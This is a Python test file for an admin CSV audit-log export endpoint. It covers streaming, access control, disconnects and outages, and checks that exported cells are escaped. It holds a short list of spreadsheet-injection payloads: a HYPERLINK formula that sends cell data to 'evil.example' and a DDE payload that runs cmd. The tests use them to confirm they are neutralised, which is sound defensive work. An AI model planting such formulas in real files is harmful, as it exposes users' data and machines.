"""GET /admin/audit as CSV: whole, harmless in a spreadsheet, and whatever happens no burden."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import socket
from dataclasses import replace
from http.client import HTTPConnection, IncompleteRead
from typing import TYPE_CHECKING, Any

import psycopg
import pytest
from dependency_injector import providers

from adapters.postgres.audit_queries import PostgresAuditQueries
from tests.support.composition import MASTER_KEY, SECRET_KEY
from tests.support.http import (
    CLIENT_IP,
    JOHN,
    USER_AGENT,
    as_url,
    bearer,
    compose_http,
    problem,
    running,
)
from tests.support.postgres import away, cloned_database
from tests.support.processes import service as started_service
from user_domain.entities.audit_entry import AuditAction, FieldChange
from user_domain.errors import StorageUnavailable
from user_domain.testing.builders import CLIENT, PASSWORD, an_audit_entry
from user_domain.use_cases.audit.export_audit_entries import BATCH
from user_domain.value_objects.ids import UserId

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Awaitable, Callable
    from pathlib import Path

    from starlette.types import Message

    from tests.support.http import Service
    from user_domain.entities.audit_entry import AuditEntry, RecordedEntry
    from user_domain.ports.audit_queries import AuditCriteria, AuditPosition

CSV = {"Accept": "text/csv"}
TO = "2026-03-15T00:00:00Z"
COLUMNS = [
    "id", "at", "action", "actor_id", "target_id", "ip_address", "user_agent", "request_id", "reason", "changes",
    "address_digest", "is_erased",
]  # fmt: skip
MANY = 10_000
FILL = b"""
    insert into audit_entries (at, action, reason)
    select %s, 'user:block', repeat('x', %s) from generate_series(1, %s)
"""


class WatchedQueries(PostgresAuditQueries):
    """Tells how many pages were asked for; may be away from some page on, and wait in the middle of one."""

    asked = 0
    away_from = 1_000_000
    before_page: Callable[[], Awaitable[object]] | None = None

    async def page(
        self, criteria: AuditCriteria, *, limit: int, after: AuditPosition | None = None
    ) -> list[RecordedEntry]:
        self.asked += 1
        if self.asked >= self.away_from:
            raise StorageUnavailable
        if self.before_page is not None:
            await self.before_page()
        return await super().page(criteria, limit=limit, after=after)


@pytest.fixture
def queries() -> list[WatchedQueries]:
    """The one that is asked, once the service runs."""
    return []


@pytest.fixture
async def service(conninfo: str, queries: list[WatchedQueries]) -> AsyncIterator[Service]:
    container = compose_http(conninfo)
    queries.append(WatchedQueries(container.database(), container.audit_keys()))
    container.audit_queries.override(providers.Object(queries[0]))
    async with running(container) as service:
        yield service


async def write(service: Service, *entries: AuditEntry) -> None:
    async with service.container.unit_of_work() as work:
        for entry in entries:
            await work.audit.append(entry)
        await work.commit()


async def fill(service: Service, count: int) -> None:
    """So many entries that tell of nobody, long ago."""
    async with service.container.database().connection() as connection:
        await connection.execute(FILL, ["2026-03-14T00:00:00Z", 10, count])


def read(text: str) -> list[dict[str, str]]:
    """The lines below the names."""
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


async def exported(service: Service, headers: dict[str, str], **parameters: Any) -> list[dict[str, str]]:
    answer = await service.client.get("/admin/audit", headers=headers | CSV, params=parameters)
    assert answer.status_code == 200, answer.text
    return read(answer.text)


# --- What it is -------------------------------------------------------------------------------------------------------


async def test_it_is_a_file_that_says_what_the_list_says(service: Service) -> None:
    admin, headers = await service.enter_as_admin()
    changes = (FieldChange("name", "José, Jr.", '"Joe"\r\nDoe'), FieldChange("locale", None, "fr"))
    await write(service, an_audit_entry(actor_id=UserId(admin["id"]), changes=changes, reason="a_reason"))
    (listed,) = (await service.client.get("/admin/audit", headers=headers, params={"to": TO})).json()
    answer = await service.client.get("/admin/audit", headers=headers | CSV, params={"to": TO})
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert re.fullmatch(r'attachment; filename="audit-\d{8}T\d{6}Z\.csv"', answer.headers["Content-Disposition"])
    assert answer.headers["Vary"] == "Accept"
    assert "Content-Length" not in answer.headers
    assert "Link" not in answer.headers
    assert answer.content.decode().startswith(",".join(f'"{name}"' for name in COLUMNS) + "\r\n")
    assert answer.content.endswith(b'"false"\r\n')
    (row,) = read(answer.content.decode())
    assert json.loads(row["changes"]) == listed["changes"]
    texts = {name: "" if value is None else str(value) for name, value in listed.items()}
    assert row == texts | {"changes": row["changes"], "is_erased": "false"}


async def test_what_is_looked_for_comes_whole_whatever_limit_and_cursor_say(service: Service) -> None:
    _, headers = await service.enter_as_admin()
    await write(service, *(an_audit_entry(reason=str(number)) for number in range(5)))
    for parameters in ({}, {"limit": 2}, {"cursor": "of no list"}):
        rows = await exported(service, headers, to=TO, **parameters)
        assert [row["reason"] for row in rows] == ["4", "3", "2", "1", "0"]
    rows = await exported(service, headers, to=TO, ip=CLIENT.ip_address)
    assert len(rows) == 5
    assert await exported(service, headers, to=TO, action="key:remove") == []


@pytest.mark.parametrize("accept", ["text/csv", "text/csv, application/json;q=0.5", "text/*", "*/*;q=0.1, text/csv"])
async def test_it_is_csv_for_who_would_rather_have_that(service: Service, accept: str) -> None:
    _, headers = await service.enter_as_admin()
    answer = await service.client.get("/admin/audit", headers=headers | {"Accept": accept})
    assert answer.headers["Content-Type"].startswith("text/csv")


@pytest.mark.parametrize("accept", ["*/*", "application/json", "text/csv;q=0.5, application/json", "text/html", ""])
async def test_and_json_for_everybody_else(service: Service, accept: str) -> None:
    _, headers = await service.enter_as_admin()
    answer = await service.client.get("/admin/audit", headers=headers | {"Accept": accept})
    assert (answer.headers["Content-Type"], answer.headers["Vary"]) == ("application/json", "Accept")
    assert AuditAction.AUDIT_EXPORT not in {entry.action for entry in await service.audit_trail()}


async def test_accept_may_come_in_several_lines(service: Service) -> None:
    _, headers = await service.enter_as_admin()
    lines = [*headers.items(), ("Accept", "application/json;q=0.5"), ("Accept", "text/csv")]
    answer = await service.client.get("/admin/audit", headers=lines)
    assert answer.headers["Content-Type"].startswith("text/csv")


FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\uff1d1",
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
async def test_nothing_that_somebody_made_up_is_a_formula(service: Service, formula: str) -> None:
    admin, headers = await service.enter_as_admin()
    client = replace(CLIENT, user_agent=formula, request_id=formula)
    entry = an_audit_entry(
        actor_id=UserId(admin["id"]), client=client, changes=(FieldChange("name", formula, f"{formula}\n{formula}"),)
    )
    await write(service, entry)
    (row,) = await exported(service, headers, to=TO)
    assert row["user_agent"] == row["request_id"] == f"'{formula}"
    (change,) = json.loads(row["changes"])
    assert change == {"field": "name", "before": formula, "after": f"{formula}\n{formula}"}
    assert not [cell for cell in row.values() if cell[:1] in set("=+-@\t\r\n")]


async def test_a_name_that_a_person_chose_comes_as_it_was_and_harmless(service: Service) -> None:
    _, headers = await service.enter_as_admin()
    john, johns = await service.enter(**JOHN)
    name = 'O\'Neill "Jo", Jr.'
    changed = await service.client.put(f"/users/{john['id']}", headers=johns, json={"name": name})
    assert changed.status_code == 200
    row, *_ = await exported(service, headers, action="user:profile-change")
    assert json.loads(row["changes"])[0]["after"] == name


# --- Who takes it -----------------------------------------------------------------------------------------------------


async def test_who_took_what_is_in_the_trail_and_the_first_line_of_it(service: Service) -> None:
    admin, headers = await service.enter_as_admin()
    rows = await exported(service, headers, actor_id=admin["id"], ip="::ffff:203.0.113.7", limit=1)
    assert [row["action"] for row in rows[:2]] == ["audit:export", "session:login:success"]
    entry = (await service.audit_trail())[-1]
    assert (entry.action, entry.actor_id, entry.target_id) == (AuditAction.AUDIT_EXPORT, admin["id"], None)
    assert (entry.client.ip_address, entry.client.user_agent) == (CLIENT_IP, USER_AGENT)
    assert entry.changes == (
        FieldChange("actor_id", None, str(admin["id"])),
        FieldChange("ip_address", None, "203.0.113.7"),
    )


async def test_nobody_but_admins_takes_it(service: Service) -> None:
    _, johns = await service.enter(**JOHN)
    problem(await service.client.get("/admin/audit", headers=johns | CSV), 403, "forbidden")
    problem(await service.client.get("/admin/audit", headers=CSV), 401, "token_missing")
    assert AuditAction.AUDIT_EXPORT not in {entry.action for entry in await service.audit_trail()}


async def test_where_the_database_is_away_from_the_beginning_it_is_a_problem(
    service: Service, queries: list[WatchedQueries]
) -> None:
    _, headers = await service.enter_as_admin()
    queries[0].away_from = 1
    problem(await service.client.get("/admin/audit", headers=headers | CSV), 503, "storage_unavailable")


# --- However much it is -----------------------------------------------------------------------------------------------


class Reader:
    """Who takes an answer piece by piece, with no server in between; `on_piece` is what happens before it takes one."""

    def __init__(self, service: Service, headers: dict[str, str], method: str = "GET") -> None:
        self._service = service
        self.gone = asyncio.Event()
        self.messages: list[Message] = []
        self.on_piece: Callable[[], Awaitable[object]] | None = None
        self._scope = {
            "type": "http",
            "asgi": {"version": "3.0", "spec_version": "2.3"},
            "http_version": "1.1",
            "method": method,
            "path": "/admin/audit",
            "raw_path": b"/admin/audit",
            "query_string": f"to={TO}".encode(),
            "root_path": "",
            "scheme": "http",
            "headers": [(name.lower().encode(), value.encode()) for name, value in headers.items()],
            "client": (CLIENT_IP, 50_000),
            "server": ("users.test", 80),
        }

    async def take(self) -> None:
        """To the end, or until gone."""
        await self._service.app(self._scope, self._receive, self._send)

    @property
    def body(self) -> bytes:
        return b"".join(message.get("body", b"") for message in self.messages)

    @property
    def is_whole(self) -> bool:
        return not self.messages[-1].get("more_body", True)

    async def _receive(self) -> Message:
        await self.gone.wait()
        return {"type": "http.disconnect"}

    async def _send(self, message: Message) -> None:
        self.messages.append(message)
        if self.on_piece is not None and message.get("body"):
            await self.on_piece()


async def test_it_is_read_no_faster_than_it_is_taken_and_holds_no_connection(
    service: Service, queries: list[WatchedQueries]
) -> None:
    _, headers = await service.enter_as_admin()
    await fill(service, MANY)
    reader = Reader(service, headers | CSV)
    taken: list[tuple[int, int]] = []

    async def watch() -> None:
        use = service.container.database().use()
        assert (use.available, use.waiting) == (use.size, 0)
        taken.append((queries[0].asked, len(reader.messages[-1]["body"])))

    reader.on_piece = watch
    await reader.take()
    # The names, then a piece for each batch; with each no more was read than what it has.
    assert [asked for asked, _ in taken] == [1, *range(1, MANY // BATCH + 1)]
    assert max(size for _, size in taken) < 200 * BATCH
    assert reader.is_whole
    rows = read(reader.body.decode())
    assert len(rows) == MANY
    assert [int(row["id"]) for row in rows] == sorted((int(row["id"]) for row in rows), reverse=True)
    assert len({row["id"] for row in rows}) == MANY


@pytest.mark.parametrize("where", ["while a piece is on its way", "while a page is read"])
async def test_who_goes_away_in_the_middle_leaves_nothing_behind(
    service: Service, queries: list[WatchedQueries], where: str
) -> None:
    _, headers = await service.enter_as_admin()
    await fill(service, 3 * BATCH)
    reader = Reader(service, headers | CSV)
    tasks = asyncio.all_tasks()

    async def go_away() -> None:
        if queries[0].asked == 2:
            reader.gone.set()
            await asyncio.Event().wait()  # as who waits for a client that is gone

    if where == "while a page is read":
        queries[0].before_page = go_away
    else:
        reader.on_piece = go_away
    await asyncio.wait_for(reader.take(), 30)
    assert not reader.is_whole
    assert queries[0].asked == 2
    assert asyncio.all_tasks() == tasks
    use = service.container.database().use()
    assert (use.available, use.waiting) == (use.size, 0)
    queries[0].before_page = None
    assert len(await exported(service, headers, to=TO)) == 3 * BATCH


async def test_who_asks_with_head_is_told_the_headers_and_makes_nobody_read_it_all(
    service: Service, queries: list[WatchedQueries]
) -> None:
    _, headers = await service.enter_as_admin()
    await fill(service, 3 * BATCH)
    reader = Reader(service, headers | CSV, method="HEAD")
    await reader.take()
    start, *rest = reader.messages
    assert start["status"] == 200
    assert dict(start["headers"])[b"content-type"].startswith(b"text/csv")
    assert rest == [{"type": "http.response.body", "body": b""}]
    assert queries[0].asked == 1


async def test_where_the_database_goes_away_in_the_middle_the_answer_has_no_end_and_the_log_says_so(
    service: Service, queries: list[WatchedQueries], capsys: pytest.CaptureFixture[str]
) -> None:
    _, headers = await service.enter_as_admin()
    await fill(service, 3 * BATCH)
    queries[0].away_from = 3
    reader = Reader(service, headers | CSV)
    with pytest.raises(RuntimeError) as raised:
        await reader.take()
    assert isinstance(raised.value.__cause__, StorageUnavailable)
    assert len(read(reader.body.decode())) == 2 * BATCH
    assert not reader.is_whole
    assert "unexpected error" in capsys.readouterr().out


def test_over_the_wire_an_export_that_breaks_off_is_not_taken_for_a_whole_one(
    postgres_admin: str, tmp_path: Path
) -> None:
    with cloned_database(postgres_admin) as conninfo:
        variables = {"SECRET_KEY": SECRET_KEY, "MASTER_KEY": MASTER_KEY, "DATABASE_TIMEOUT_SECONDS": "0.5"}
        variables |= {"DATABASE_URL": as_url(conninfo), "ENVIRONMENT": "development", "RUN_WORKER": "false"}
        with started_service("serve", tmp_path, **variables) as server:
            assert server.call("POST", "/auth/register", JOHN)[0] == 201
            with psycopg.connect(conninfo) as store:
                store.execute("update users set role = 'admin'")
                # More than fits between the service and somebody who does not read.
                store.execute(FILL, ["2026-03-14T00:00:00Z", 4000, 30 * BATCH])
            _, tokens = server.call("POST", "/auth/login", {"email": JOHN["email"], "password": PASSWORD})
            connection = HTTPConnection("127.0.0.1", server.port, timeout=60)
            connection.connect()
            connection.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65_536)
            connection.request("GET", "/admin/audit", headers=bearer(tokens["access_token"]) | CSV)
            answer = connection.getresponse()
            assert answer.status == 200
            assert answer.read(100_000)
            with away(postgres_admin, conninfo), pytest.raises(IncompleteRead):
                answer.read()
            connection.close()
            assert "StorageUnavailable" in server.output()
            status, _ = server.call("GET", "/auth/me", token=tokens["access_token"])
            assert status == 200
